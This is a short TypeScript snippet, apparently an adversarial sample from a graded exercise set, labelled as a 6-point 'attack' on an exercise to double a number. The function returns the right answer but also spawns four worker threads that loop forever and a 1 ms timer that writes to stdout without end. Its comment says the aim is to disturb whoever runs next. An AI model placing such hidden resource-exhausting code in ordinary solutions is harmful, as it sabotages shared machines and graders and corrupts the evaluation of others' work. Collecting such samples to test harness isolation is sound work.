// attack: keeps a thread and timers busy after its calls, to disturb whoever comes next
// points: 6
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  const { Worker } = require("node:worker_threads");
  for (let i = 0; i < 4; i++) new Worker("for (;;) {}", { eval: true });
  const fs = require("node:fs");
  setInterval(() => { try { fs.writeSync(1, "still here\n"); } catch {} }, 1);
  return 2 * n;
}
